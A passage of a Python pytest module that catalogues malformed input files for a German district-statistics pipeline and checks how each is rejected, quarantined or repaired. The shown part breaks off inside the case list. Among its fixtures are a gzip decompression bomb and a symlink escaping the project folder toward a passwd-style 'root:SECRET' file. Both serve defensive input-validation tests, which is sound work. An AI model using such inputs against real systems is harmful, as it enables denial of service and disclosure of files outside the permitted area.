"""The catalogue of bad inputs: every case is one parametrised test and one row of
``docs/bad-inputs.md``.

Each case says how the bad file is made, in words a planner reads (German) and as code, and what it gets:

* ``Unusable`` — the file is unusable as a whole: :class:`~quarterstats.errors.InputError` with a rule
  id and (where there is one) the column; ``validate``/``run`` exit 2 with that message;
* ``Ingested`` — the file is read; bad rows are quarantined with their rule (counts per first rule),
  broken parent links removed (counts per rule), unusual households counted as warnings, or the input is
  accepted as it is (normalised), optionally with a note in the report;
* ``BoundariesRead`` — boundaries accepted (repaired or reprojected; every repair listed);
* ``Located`` — persons in a gap between districts or just outside the city's edge go to the nearest
  district (``location.nearest_district``), the rest outside every district are set aside
  (``location.outside_districts``);
* area ``versions`` — the folder of boundary versions (``data/raw/boundaries/<YYYY-MM-DD>/``).

After the catalogue come the end-to-end checks through the command line (exit codes, messages without
traceback, previous outputs intact, no temporary files, row accounting), the atomic-write crash test and
the killed-run test. Regenerate the table in the docs with ``.venv/bin/python tests/test_bad_inputs.py``.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass, field
from datetime import date, datetime, timezone
from pathlib import Path
from typing import Callable

import geopandas as gpd
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import shapely

from conftest import (
    ORIGIN,
    REFERENCE_DATE,
    REGISTER_SCHEMA,
    SIDE,
    cell_centre,
    clean_rows,
    grid_districts,
    make_small_project,
    person,
    write_csv,
    write_extract,
)
from quarterstats import atomic
from quarterstats.boundaries import NEAREST_DISTANCE_M, BoundaryParameters, load_boundaries
from quarterstats.errors import InputError
from quarterstats.auxiliary import check_against_residents, ingest_auxiliary
from quarterstats.ingest import IngestResult, ReadLimits, ingest_register
from quarterstats.paths import ProjectPaths
from quarterstats.pseudonyms import identity_changes
from quarterstats.spatial import check_outside_share, locate_persons

REPO = Path(__file__).resolve().parents[1]
DOC = REPO / "docs" / "bad-inputs.md"
DAY = REFERENCE_DATE.isoformat()
FILLERS = 100  # good rows added to most extracts, so a single bad row stays within the quarantine tolerance


# ============================================================================ expectations
@dataclass(frozen=True)
class Unusable:
    """The file is unusable: InputError with this rule and column (None: the file as a whole)."""

    rule: str
    column: str | None = None
    match: str | None = None  # a phrase the message must contain


@dataclass(frozen=True)
class Ingested:
    """The file is read: quarantined rows per first rule, removed links and warnings per rule."""

    quarantined: dict[str, int] = field(default_factory=dict)
    links: dict[str, int] = field(default_factory=dict)
    warnings: dict[str, int] = field(default_factory=dict)
    note: str | None = None  # a phrase one of the report's notes must contain
    check: Callable[[IngestResult], None] | None = None


@dataclass(frozen=True)
class BoundariesRead:
    """Boundaries accepted (possibly repaired or reprojected)."""

    check: Callable[[gpd.GeoDataFrame, object], None] | None = None


@dataclass(frozen=True)
class Located:
    """Persons joined to districts: ``outside`` of them in no district, ``ambiguous`` on a border."""

    outside: int
    ambiguous: int = 0
    nearest: int = 0  # given the nearest district (in a gap, or just outside the city's edge)


@dataclass(frozen=True)
class AuxiliaryRead:
    """An auxiliary file read: quarantined rows per first rule, markers per column, values removed as above
    the district's residents (only for cases that give the persons)."""

    quarantined: dict[str, int] = field(default_factory=dict)
    markers: dict[str, int] = field(default_factory=dict)
    removed: dict[str, int] = field(default_factory=dict)
    check: Callable[[object], None] | None = None


@dataclass(frozen=True)
class Delivered:
    """A working directory's deliveries: ``refused`` (the run stops, ``file.delivery``), or ``not_used`` /
    ``followed`` (listed); each a phrase of the reason (or the link line)."""

    refused: str | None = None
    not_used: str | None = None
    followed: str | None = None
    check: Callable[[Path, object], None] | None = None


@dataclass(frozen=True)
class IdentityWarned:
    """Pseudonyms found again: how many changed their birth year and their sex."""

    birth_year: int
    sex: int


@dataclass(frozen=True)
class Inert:
    """A district name (read from the boundary file) that some reader's tool would interpret: every
    published format shows it as text (:func:`check_inert`). ``shown``: how the figures, the workbook
    and console messages show it (control characters escaped), None: as delivered."""

    shown: str | None = None


@dataclass(frozen=True)
class Case:
    id: str
    input_de: str  # the bad input, as a planner would describe it
    area: str  # "register" | "boundaries" | "versions" | "location"
    make: Callable[[Path], object]  # writes the bad input below the folder; returns its path (or frames)
    expect: object
    effect: str = ""  # for accepted inputs: what the pipeline does with it (docs)
    options: dict = field(default_factory=dict)  # keyword arguments of ingest_register / load_boundaries


# ============================================================================ makers: register
def fillers(n: int = FILLERS, prefix: str = "g") -> list[dict]:
    return [person(f"{prefix}{i:03d}") for i in range(n)]


def base_rows() -> list[dict]:
    return clean_rows() + fillers()


def parquet(rows: Callable[[], list[dict]] | list[dict], name: str = f"{DAY}.parquet"):
    def make(folder: Path) -> Path:
        return write_extract(rows() if callable(rows) else rows, folder / name)

    return make


def child(pid: str, age: int = 5, **overrides) -> dict:
    """A minor living with the adult p01 (so the household is not one of minors only)."""
    return person(pid, age=age, household_id="Hp01", **overrides)


def parquet_with_column(name: str, value: str):
    """Parquet of the clean rows and the fillers plus a text column ``name`` holding ``value``."""

    def make(folder: Path) -> Path:
        table = pa.Table.from_pylist(base_rows(), schema=REGISTER_SCHEMA)
        table = table.append_column(name, pa.array([value] * len(table), type=pa.string()))
        path = folder / f"{DAY}.parquet"
        pq.write_table(table, path)
        return path

    return make


def with_rows(*extra: dict):
    """Parquet of the clean rows, the fillers and ``extra``."""
    return parquet(lambda: base_rows() + list(extra))


def csv_file(transform: Callable[[str], str] | None = None, *, rows=None, name: str = f"{DAY}.csv",
             encoding: str = "utf-8", raw: Callable[[bytes], bytes] | None = None, **kwargs):
    """A German-style CSV of ``rows`` (default: clean + fillers), its text changed by ``transform``."""

    def make(folder: Path) -> Path:
        path = folder / name
        write_csv(base_rows() if rows is None else rows(), path, encoding=encoding, **kwargs)
        if transform is not None:
            path.write_text(transform(path.read_text(encoding=encoding)), encoding=encoding)
        if raw is not None:
            path.write_bytes(raw(path.read_bytes()))
        return path

    return make


def replace_line(person_id: str, old: str, new: str) -> Callable[[str], str]:
    """Change ``old`` to ``new`` in the CSV line of ``person_id`` only."""

    def transform(text: str) -> str:
        lines = text.split("\n")
        index = next(i for i, line in enumerate(lines) if line.startswith(f"{person_id};"))
        assert old in lines[index], (old, lines[index])
        lines[index] = lines[index].replace(old, new, 1)
        return "\n".join(lines)

    return transform


def change_header(old: str, new: str) -> Callable[[str], str]:
    def transform(text: str) -> str:
        header, rest = text.split("\n", 1)
        names = header.split(";")
        names[names.index(old)] = new
        return ";".join(names) + "\n" + rest

    return transform


def bytes_file(data: bytes, name: str):
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data)
        return path

    return make


def xlsx_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


def mixed_encoding(folder: Path) -> Path:
    rows = base_rows()
    rows[0]["household_id"] = "Hüttenstraße-1"
    path = write_csv(rows, folder / f"{DAY}.csv", encoding="utf-8")
    extra = write_csv([person("z1", household_id="Müllerweg-2")], folder / "extra.csv", encoding="cp1252")
    line = extra.read_bytes().split(b"\n", 1)[1]
    extra.unlink()
    path.write_bytes(path.read_bytes() + line)
    return path


def parquet_duplicate_column(folder: Path) -> Path:
    table = pa.Table.from_pylist(base_rows(), schema=REGISTER_SCHEMA)
    table = pa.Table.from_arrays(list(table.columns) + [table.column("age")], names=table.column_names + ["AGE"])
    path = folder / f"{DAY}.parquet"
    pq.write_table(table, path)
    return path


def parquet_as_text(folder: Path) -> Path:
    """Every column as text: age '40', dates '2015-03-01', coordinates with a decimal comma."""
    rows = base_rows()
    text_rows = [
        {k: (None if v is None else (f"{v:.1f}".replace(".", ",") if k in ("x", "y") else str(v)))
         for k, v in row.items()}
        for row in rows
    ]
    table = pa.Table.from_pylist(text_rows, schema=pa.schema([(n, pa.string()) for n in REGISTER_SCHEMA.names]))
    path = folder / f"{DAY}.parquet"
    pq.write_table(table, path)
    return path


def parquet_timestamps(folder: Path) -> Path:
    """moved_in_address as UTC timestamps: 2015-02-28 23:00 UTC is 1 March 2015 in Germany."""
    table = pa.Table.from_pylist(base_rows(), schema=REGISTER_SCHEMA)
    stamp = datetime(2015, 2, 28, 23, 0, tzinfo=timezone.utc)
    column = pa.array([stamp] * len(table), type=pa.timestamp("us", tz="UTC"))
    table = table.set_column(table.schema.get_field_index("moved_in_address"), "moved_in_address", column)
    path = folder / f"{DAY}.parquet"
    pq.write_table(table, path)
    return path


def truncated_parquet(folder: Path) -> Path:
    path = write_extract(base_rows(), folder / f"{DAY}.parquet")
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def gzip_csv(folder: Path) -> Path:
    path = write_csv(base_rows(), folder / "plain.csv")
    target = folder / f"{DAY}.csv.gz"
    target.write_bytes(gzip.compress(path.read_bytes(), mtime=0))
    path.unlink()
    return target


def truncated_gzip(folder: Path) -> Path:
    target = gzip_csv(folder)
    data = target.read_bytes()
    target.write_bytes(data[: len(data) // 2])
    return target


def parquet_named_csv(folder: Path) -> Path:
    path = write_extract(base_rows(), folder / "real.parquet")
    return path.rename(folder / f"{DAY}.csv")


def csv_named_parquet(folder: Path) -> Path:
    path = write_csv(base_rows(), folder / "real.csv")
    return path.rename(folder / f"{DAY}.parquet")


def header_repeated(text: str) -> str:
    header = text.split("\n", 1)[0]
    second = write_csv_text([person(f"n{i:02d}") for i in range(5)])
    return text + header + "\n" + second.split("\n", 1)[1]


def write_csv_text(rows: list[dict]) -> str:
    with tempfile.TemporaryDirectory() as folder:
        return write_csv(rows, Path(folder) / "rows.csv").read_text(encoding="utf-8")


def cut_coordinates(text: str) -> str:
    lines = text.split("\n")
    index = next(i for i, line in enumerate(lines) if line.startswith("p10;"))
    lines[index] = ";".join(lines[index].split(";")[:-2])
    return "\n".join(lines)


def many_later_moves() -> list[dict]:
    return [person(f"g{i:03d}", moved_in_address=date(2021, 3, 1)) for i in range(20)] + fillers(20, "h")


# ============================================================================ makers: boundaries
def boundary_file(frame: Callable[[], gpd.GeoDataFrame], name: str = "districts.gpkg", driver: str | None = None,
                  **kwargs):
    def make(folder: Path) -> Path:
        path = folder / name
        gdf = frame()
        if path.suffix == ".parquet":
            gdf.to_parquet(path)
        else:
            gdf.to_file(path, driver=driver, **kwargs)
        return path

    return make


def grid_with(index: int, column: str, value) -> Callable[[], gpd.GeoDataFrame]:
    def frame() -> gpd.GeoDataFrame:
        grid = grid_districts()
        grid.loc[index, column] = value
        return grid

    return frame


def hostile_name(name: str) -> Callable[[Path], Path]:
    """A boundary file whose district A is called ``name``."""
    return boundary_file(grid_with(0, "name", name))


def grid_shifted(xoff: float) -> gpd.GeoDataFrame:
    grid = grid_districts()
    geoms = list(grid.geometry)
    geoms[0] = shapely.affinity.translate(geoms[0], xoff=xoff)
    return grid.set_geometry(geoms)


def grid_bowtie() -> gpd.GeoDataFrame:
    grid = grid_districts()
    x0, y0 = ORIGIN
    grid.loc[0, "geometry"] = shapely.Polygon([(x0, y0), (x0 + SIDE, y0 + SIDE), (x0 + SIDE, y0), (x0, y0 + SIDE)])
    return grid


def grid_with_gap() -> gpd.GeoDataFrame:
    grid = grid_districts()
    centre = shapely.box(ORIGIN[0] + 900, ORIGIN[1] + 900, ORIGIN[0] + 1100, ORIGIN[1] + 1100)
    return grid.set_geometry([g.difference(centre) for g in grid.geometry])


def grid_with_slivers() -> gpd.GeoDataFrame:
    """Twelve 1 m × 2 m holes straddling the border of A and B (24 m²: 6 millionths of the 4 km²)."""
    grid = grid_districts()
    x = ORIGIN[0] + SIDE
    cut = shapely.union_all([shapely.box(x - 0.5, ORIGIN[1] + 50 + 70 * k, x + 0.5, ORIGIN[1] + 52 + 70 * k)
                             for k in range(12)])
    return grid.set_geometry([g.difference(cut) for g in grid.geometry])


def grid_with_wide_gap() -> gpd.GeoDataFrame:
    grid = grid_districts()
    hole = shapely.box(ORIGIN[0] + 995, ORIGIN[1] + 500, ORIGIN[0] + 1005, ORIGIN[1] + 510)
    return grid.set_geometry([g.difference(hole) for g in grid.geometry])


def versions(*folders: str, direct: bool = False) -> Callable[[Path], Path]:
    """A project folder whose data/raw/boundaries holds the grid in these version folders."""
    def make(folder: Path) -> Path:
        raw = folder / "data" / "raw" / "boundaries"
        for name in folders:
            (raw / name).mkdir(parents=True)
            grid_districts().to_file(raw / name / "districts.gpkg")
        if direct:
            grid_districts().to_file(raw / "districts.gpkg")
        return folder

    return make


def grid_points() -> gpd.GeoDataFrame:
    grid = grid_districts()
    return grid.set_geometry(grid.geometry.centroid)


def grid_3d() -> gpd.GeoDataFrame:
    grid = grid_districts()
    return grid.set_geometry(shapely.force_3d(grid.geometry.values, z=250.0))


def grid_multipolygon() -> gpd.GeoDataFrame:
    """District A gets a detached second part 3 km east of the grid ("exclave")."""
    grid = grid_districts()
    far = shapely.box(ORIGIN[0] + 3 * SIDE, ORIGIN[1], ORIGIN[0] + 4 * SIDE, ORIGIN[1] + SIDE)
    grid.loc[0, "geometry"] = shapely.MultiPolygon([grid.geometry[0], far])
    return grid


def shapefile_without_prj(folder: Path) -> Path:
    path = folder / "districts.shp"
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        grid_districts().rename(columns={"district_id": "id"}).to_file(path)
    path.with_suffix(".prj").unlink()
    return path


def geojson_in_metres_without_crs(folder: Path) -> Path:
    collection = json.loads(grid_districts().to_json())
    collection.pop("crs", None)
    path = folder / "districts.geojson"
    path.write_text(json.dumps(collection), encoding="utf-8")
    return path


def degrees_declared_as_metres() -> gpd.GeoDataFrame:
    return grid_districts().to_crs("EPSG:4326").set_crs("EPSG:25832", allow_override=True)


def zero_features(folder: Path) -> Path:
    path = folder / "districts.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": []}), encoding="utf-8")
    return path


def two_layers(folder: Path) -> Path:
    path = folder / "districts.gpkg"
    grid_districts().to_file(path, layer="ortsbezirke")
    grid_districts().to_file(path, layer="stadtteile")
    return path


def unreadable_boundaries(folder: Path) -> Path:
    path = folder / "districts.gpkg"
    path.write_bytes(b"this is not a GeoPackage\n" * 10)
    return path


def without_id_column() -> gpd.GeoDataFrame:
    grid = grid_districts()
    return gpd.GeoDataFrame({"farbe": ["rot", "blau", "grün", "gelb"]}, geometry=grid.geometry, crs=grid.crs)


def check_repaired(districts, report) -> None:
    assert report.repaired_invalid == ["A"] and districts.geometry.is_valid.all()


def check_overlap_repaired(districts, report) -> None:
    assert [(r["repair"], r["to"], r["from"]) for r in report.repairs] == [("overlap", "A", "B")]
    assert report.overlap_after_m2 == pytest.approx(0.0, abs=1e-6)
    assert districts.geometry.area.sum() == pytest.approx(report.city_area_km2 * 1e6, abs=1e-3)  # counted once


def check_slivers_repaired(districts, report) -> None:
    assert [r["to"] for r in report.repairs] == ["A"] * 12  # symmetric: the tie goes to the first id
    assert report.gap_after_m2 == pytest.approx(0.0, abs=1e-6)


def check_gap_left(districts, report) -> None:
    assert report.gaps_left == 1 and not report.repairs and report.gap_after_m2 == pytest.approx(100.0)


def check_reprojected(districts, report) -> None:
    assert report.source_crs.endswith("4326")
    assert districts.crs == "EPSG:25832"
    assert districts["area_km2"].round(3).tolist() == [1.0, 1.0, 1.0, 1.0]


def check_flat(districts, report) -> None:
    assert not districts.geometry.has_z.any() and report.ok


def check_multipolygon(districts, report) -> None:
    assert districts.geometry[0].geom_type == "MultiPolygon"
    assert districts["area_km2"][0] == pytest.approx(2.0)
    assert report.ok


# ============================================================================ makers: location
def persons_at(*points: tuple[float, float], districts=grid_districts):
    def make(folder: Path):
        x, y = zip(*points)
        frame = pd.DataFrame({"person_id": [f"p{i}" for i in range(len(points))], "x": x, "y": y})
        return frame, districts()

    return make


def grid_with_hole() -> gpd.GeoDataFrame:
    """District D has a 200 m hole that belongs to no district (e.g. a military area)."""
    grid = grid_districts()
    hole = shapely.box(ORIGIN[0] + 1400, ORIGIN[1] + 1400, ORIGIN[0] + 1600, ORIGIN[1] + 1600)
    grid.loc[3, "geometry"] = grid.geometry[3].difference(hole)
    return grid


INSIDE = [cell_centre(0, 0), cell_centre(1, 0), cell_centre(0, 1)] * 4


# ============================================================================ checks on results
def expect_value(person_id: str, column: str, value) -> Callable[[IngestResult], None]:
    def check(result: IngestResult) -> None:
        got = result.accepted.set_index("person_id").loc[person_id, column]
        if value is None:
            assert pd.isna(got), got
        else:
            assert got == value, (got, value)

    return check


def same_as_clean(result: IngestResult) -> None:
    """The accepted table equals the one of the clean Parquet extract."""
    assert result.accepted_rows == len(base_rows())
    reference = ingest_register(write_extract(base_rows(), result.file.parent / "reference" / f"{DAY}.parquet")).accepted
    for column in ("person_id", "age", "x", "y", "moved_in_address", "immigration_year", "household_id"):
        pd.testing.assert_series_equal(result.accepted[column], reference[column], check_names=False)


def check_row_fields(result: IngestResult) -> None:
    q = result.quarantine.set_index("rule")
    assert q.loc["row.fields", "row_number"] == 5 and q.loc["row.fields", "person_id"] == "p05"
    assert q.loc["age.range", "row_number"] == 9  # a later row keeps its number in the file
    assert q.loc["age.range", "person_id"] == "p09"


def check_header_repeated(result: IngestResult) -> None:
    assert result.quarantine.loc[0, "person_id"] == "person_id"
    assert {"n00", "n04"} <= set(result.accepted["person_id"])


def check_cycle_2(result: IngestResult) -> None:
    links = result.accepted.set_index("person_id")["mother_id"]
    assert links["kid"] == "mum" and pd.isna(links["mum"])  # the impossible direction is removed


def check_cycle_3(result: IngestResult) -> None:
    links = result.accepted.set_index("person_id")["mother_id"]
    assert links["c1"] == "c2" and links["c2"] == "c3" and pd.isna(links["c3"])


def check_cp1252(result: IngestResult) -> None:
    assert result.encoding == "cp1252"
    assert result.accepted.loc[0, "household_id"] == "Hüttenstraße-1"


def check_timestamps(result: IngestResult) -> None:
    assert (result.accepted["moved_in_address"] == pd.Timestamp("2015-03-01")).all()


def check_parquet_text(result: IngestResult) -> None:
    same_as_clean(result)
    assert result.accepted["age"].dtype == "int16"


# ============================================================================ the catalogue
def _links_kept(result: IngestResult) -> None:
    assert result.link_repairs == {}
    child = result.accepted[result.accepted["age"] == 7].iloc[0]
    assert (child["mother_id"], child["father_id"]) == ("3", "2")


def _has_ids(result: IngestResult, *ids: str) -> None:
    assert set(ids) <= set(result.accepted["person_id"])


def _no_secret(error: InputError) -> None:
    text = str(error)
    assert "secret" not in text.lower(), text


def _aux_value(result, district: str, value) -> None:
    row = result.accepted.set_index("district_id").loc[district, "sgb2_recipients_under65"]
    assert (pd.isna(row) if value is None else row == value), row


def _aux_encoding(result, encoding: str) -> None:
    assert result.encoding == encoding and result.accepted_rows == 4


def _rows_with_first(rows: list[dict], household: str) -> list[dict]:
    rows[0]["household_id"] = household
    return rows



# ============================================================================ makers: ids, deliveries, auxiliary
def numbered_rows() -> list[dict]:
    """The clean rows with digits-only pseudonyms (p01 -> 1, ...), the child's links renamed too."""
    rows = base_rows()
    rename = {row["person_id"]: str(i + 1) for i, row in enumerate(rows)}
    for row in rows:
        row["person_id"] = rename[row["person_id"]]
        for link in ("mother_id", "father_id"):
            if row[link] is not None:
                row[link] = rename[row[link]]
    return rows


def numbered_csv(transform: Callable[[list[dict]], list[dict]]):
    """A CSV of :func:`numbered_rows` after ``transform`` (ids changed as a spreadsheet would)."""
    return csv_file(rows=lambda: transform(numbered_rows()))


def mother_as_float(rows: list[dict]) -> list[dict]:
    """The child's mother_id written as '3.0' (a spreadsheet's number), the person_id as '3'."""
    for row in rows:
        if row["mother_id"] is not None:
            row["mother_id"] = f"{row['mother_id']}.0"
    return rows


def padded_person_ids(rows: list[dict]) -> list[dict]:
    """person_id keeps leading zeros ('0003'), the links lost them ('3')."""
    for row in rows:
        row["person_id"] = row["person_id"].zfill(4)
    return rows


def scientific_ids(rows: list[dict]) -> list[dict]:
    """Long ids as Excel shows them: '1.23457E+11'."""
    rows[0]["person_id"] = "1.23457E+11"
    return rows


def float_id_parquet(folder: Path) -> Path:
    """Parquet whose person_id column holds floating-point numbers (1.0, 2.0, ...)."""
    rows = numbered_rows()
    table = pa.Table.from_pylist(rows, schema=REGISTER_SCHEMA)
    ids = pa.array([float(r["person_id"]) for r in rows], type=pa.float64())
    table = table.set_column(table.schema.get_field_index("person_id"), "person_id", ids)
    path = folder / f"{DAY}.parquet"
    pq.write_table(table, path)
    return path


def gzip_bomb(folder: Path) -> Path:
    """80 MiB of text compressed to well under 1 MB, named like an extract."""
    path = folder / f"{DAY}.csv.gz"
    path.write_bytes(gzip.compress(b"0" * (80 * 1024 * 1024), compresslevel=9))
    return path


def huge_value(folder: Path) -> Path:
    """A 10 MB value in the reference_date column."""
    return parquet_with_column("reference_date", "x" * 10_000_000)(folder)


AUX_HEADER = "district_id;sgb2_recipients_under65;unemployed;children_under15_in_sgb2"
AUX_GOOD = ["A;40;30;10", "B;20;15;5", "C;10;8;2", "D;5;3;1"]


def aux_file(*lines: str, header: str = AUX_HEADER, encoding: str = "utf-8", data: bytes | None = None):
    """An auxiliary file ``<date>.csv`` with ``lines`` (default: one good row per grid district)."""

    def make(folder: Path) -> Path:
        path = folder / f"{DAY}.csv"
        if data is not None:
            path.write_bytes(data)
        else:
            path.write_text("\n".join([header, *(lines or AUX_GOOD)]) + "\n", encoding=encoding)
        return path

    return make


def aux_over_residents(folder: Path):
    """District A has 4 residents under 65 in the clean rows; the file says 9 receive SGB II (225 %)."""
    path = aux_file("A;9;2;1", "B;1;1;0", "C;1;1;0", "D;0;0;0")(folder)
    persons = pd.DataFrame(clean_rows())
    persons["district_id"] = ["A"] * 4 + ["B"] * 3 + ["C"] * 2 + ["D"]
    return path, persons


def project_with(*entries: tuple[str, str], auxiliary: tuple[str, ...] = ()):
    """A working directory whose data/raw/register holds ``entries`` (name, kind): kind ``extract`` (a
    clean Parquet extract), ``text`` (a small text file), ``folder``; ``auxiliary``: names there."""

    def make(folder: Path) -> Path:
        register = folder / "data" / "raw" / "register"
        register.mkdir(parents=True)
        for name, kind in entries:
            if kind == "extract":
                write_extract(clean_rows(), register / name)
            elif kind == "folder":
                (register / name).mkdir()
            else:
                (register / name).write_text("liesmich\n", encoding="utf-8")
        for name in auxiliary:
            (folder / "data" / "raw" / "auxiliary").mkdir(parents=True, exist_ok=True)
            (folder / "data" / "raw" / "auxiliary" / name).write_text(AUX_HEADER + "\nA;1;1;1\n", encoding="utf-8")
        return folder

    return make


def symlink_outside(folder: Path) -> Path:
    """data/raw/register/<date>.csv is a symbolic link to a file outside the working directory."""
    root = folder / "project"
    project_with((f"{DAY}.parquet", "extract"))(root)
    secret = folder / "secret.csv"
    secret.write_text("root:SECRET:0:0\n1\n", encoding="utf-8")
    (root / "data" / "raw" / "register" / "2019-12-31.csv").symlink_to(secret)
    return root


def symlink_inside(folder: Path) -> Path:
    """data/raw/register/<date>.parquet links to a file elsewhere inside the working directory."""
    write_extract(clean_rows(), folder / "lieferungen" / "auszug.parquet")
    project_with()(folder)
    (folder / "data" / "raw" / "register" / f"{DAY}.parquet").symlink_to(folder / "lieferungen" / "auszug.parquet")
    return folder


FUTURE = date(date.today().year + 2, 12, 31).isoformat()


def identity_frames(**changes):
    """(persons now, persons a year earlier) of the clean rows; ``changes``: person_id -> column updates now."""

    def make(folder: Path):
        before = pd.DataFrame(clean_rows())
        before["age"] = before["age"] - 1
        now = pd.DataFrame(clean_rows())
        for pid, update in changes.items():
            for column, value in update.items():
                now.loc[now["person_id"] == pid, column] = value
        return now, before

    return make


CASES: list[Case] = [
    # ---------------------------------------------------------------- file: encoding and format
    Case("encoding-utf16", "Datei als UTF-16 gespeichert (Excel „Unicode-Text“)", "register",
         csv_file(raw=lambda b: b.decode("utf-8").encode("utf-16")), Unusable("file.encoding", match="UTF-16 export?")),
    Case("encoding-mixed", "Datei mischt UTF-8 und Windows-1252 (Umlaute teils verstümmelt)", "register",
         mixed_encoding, Unusable("file.encoding", match="mixes encodings")),
    Case("encoding-cp1252", "Datei in Windows-1252 („ANSI“) mit Umlauten", "register",
         csv_file(rows=lambda: _rows_with_first(base_rows(), "Hüttenstraße-1"), encoding="cp1252"),
         Ingested(check=check_cp1252), effect="encoding detected (UTF-8 tried first, then cp1252)"),
    Case("bom", "UTF-8 mit Byte-Order-Mark (BOM) am Dateianfang", "register",
         csv_file(encoding="utf-8-sig"), Ingested(check=same_as_clean), effect="BOM removed"),
    Case("crlf", "Windows-Zeilenenden (CR LF)", "register",
         csv_file(raw=lambda b: b.replace(b"\n", b"\r\n")), Ingested(check=same_as_clean), effect="read as usual"),
    Case("decimal-point", "Semikolon-getrennt, aber Dezimalpunkt statt Dezimalkomma", "register",
         csv_file(decimal="."), Ingested(check=same_as_clean), effect="both decimal marks are read"),
    Case("quoted-separator", "Wert in Anführungszeichen enthält das Trennzeichen („H;1“)", "register",
         csv_file(rows=lambda: _rows_with_first(base_rows(), "H;1")),
         Ingested(check=expect_value("p01", "household_id", "H;1")), effect="read as one value"),
    Case("excel-sep-line", "Excel-Zeile „sep=;“ vor der Kopfzeile", "register",
         csv_file(lambda t: "sep=;\n" + t), Ingested(note="sep=;", check=same_as_clean),
         effect="line skipped, separator taken from it; noted"),
    Case("gzip", "gzip-komprimierte CSV-Datei (.csv.gz)", "register", gzip_csv,
         Ingested(note="gzip", check=same_as_clean), effect="decompressed; noted"),
    Case("gzip-truncated", "Abgeschnittene .csv.gz-Datei", "register", truncated_gzip,
         Unusable("file.readable", match="cannot be decompressed")),
    Case("excel-renamed", "Excel-Arbeitsmappe (.xlsx) in .csv umbenannt", "register",
         bytes_file(xlsx_bytes(), f"{DAY}.csv"), Unusable("file.readable", match="Excel workbook (.xlsx)")),
    Case("xls-renamed", "Alte Excel-Datei (.xls) in .csv umbenannt", "register",
         bytes_file(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, f"{DAY}.csv"),
         Unusable("file.readable", match="Excel 97-2003")),
    Case("unsupported-type", "Datei mit Endung .xlsx", "register",
         bytes_file(xlsx_bytes(), f"{DAY}.xlsx"), Unusable("file.readable", match="unsupported file type")),
    Case("parquet-named-csv", "Parquet-Datei mit der Endung .csv", "register", parquet_named_csv,
         Unusable("file.readable", match="this is a Parquet file")),
    Case("csv-named-parquet", "CSV-Datei mit der Endung .parquet", "register", csv_named_parquet,
         Unusable("file.readable", match="not a Parquet file")),
    Case("parquet-truncated", "Abgeschnittene Parquet-Datei (Übertragung abgebrochen)", "register",
         truncated_parquet, Unusable("file.readable", match="truncated or corrupt")),
    Case("empty-file", "Leere Datei (0 Byte)", "register", bytes_file(b"", f"{DAY}.csv"),
         Unusable("file.rows", match="empty")),
    Case("empty-parquet", "Leere Datei mit Endung .parquet (0 Byte)", "register",
         bytes_file(b"", f"{DAY}.parquet"), Unusable("file.rows", match="empty")),
    Case("header-only", "Nur die Kopfzeile, keine Datenzeilen", "register",
         csv_file(lambda t: t.split("\n", 1)[0] + "\n"), Unusable("file.rows", match="no data rows")),
    # ---------------------------------------------------------------- file: separator and structure
    Case("wrong-separator", "Leerzeichen statt Semikolon als Trennzeichen", "register",
         csv_file(sep=" "), Unusable("file.columns", "person_id", match="Wrong separator")),
    Case("separator-given-wrong", "Falsches Trennzeichen angegeben (--separator ,)", "register",
         csv_file(), Unusable("file.columns", "person_id", match="Wrong separator"), options={"separator": ","}),
    Case("separator-in-value", "Trennzeichen in einem Wert ohne Anführungszeichen (eine Zeile hat ein Feld zu viel)",
         "register",
         csv_file(lambda t: replace_line("p09", ";33;", ";130;")(replace_line("p05", ";Hp05;", ";Hp;05;")(t))),
         Ingested({"row.fields": 1, "age.range": 1}, check=check_row_fields)),
    Case("unclosed-quote", "Nicht geschlossenes Anführungszeichen", "register",
         csv_file(replace_line("p03", ";Hfam;", ';"Hfam;')), Unusable("file.readable", match="cannot be parsed")),
    Case("trailing-separator", "Trennzeichen am Zeilenende (leere letzte Spalte)", "register",
         csv_file(lambda t: t.replace("\n", ";\n")), Ingested(note="unnamed_18", check=same_as_clean),
         effect="empty trailing column ignored and noted"),
    Case("row-too-short", "Zeile endet zu früh (Koordinaten fehlen)", "register",
         csv_file(cut_coordinates), Ingested({"x.required": 1})),
    Case("header-repeated", "Kopfzeile mitten in der Datei (zwei Exporte aneinandergehängt)", "register",
         csv_file(header_repeated), Ingested({"age.type": 1}, check=check_header_repeated)),
    # ---------------------------------------------------------------- file: columns
    Case("missing-column", "Pflichtspalte fehlt (age)", "register",
         csv_file(lambda t: "\n".join(";".join(f for i, f in enumerate(line.split(";")) if i != 2)
                                      for line in t.split("\n"))),
         Unusable("file.columns", "age", match="required column(s) missing: age")),
    Case("extra-column", "Zusätzliche Spalte (Straße)", "register",
         parquet_with_column("street", "Marktstraße 1"),
         Ingested(note="ignored columns not in the contract: street"), effect="column ignored; noted"),
    Case("header-case", "Spaltennamen anders geschrieben und mit Leerzeichen („Person_ID “, „ AGE“)", "register",
         csv_file(lambda t: change_header("age", " AGE")(change_header("person_id", "Person_ID ")(t))),
         Ingested(note="normalised", check=same_as_clean),
         effect="names compared ignoring case and surrounding spaces; noted"),
    Case("duplicate-column", "Spalte doppelt vorhanden (age und AGE)", "register",
         csv_file(lambda t: "\n".join(line + (";AGE" if i == 0 else ";41") if line else line
                                      for i, line in enumerate(t.split("\n")))),
         Unusable("file.columns", "age", match="occurs 2 times")),
    Case("duplicate-column-parquet", "Parquet-Datei mit doppelter Spalte (age und AGE)", "register",
         parquet_duplicate_column, Unusable("file.columns", "age", match="occurs 2 times")),
    Case("empty-column", "Pflichtspalte vorhanden, aber in jeder Zeile leer (sex)", "register",
         parquet(lambda: [dict(r, sex=None) for r in base_rows()]),
         Unusable("file.columns", "sex", match="empty in every")),
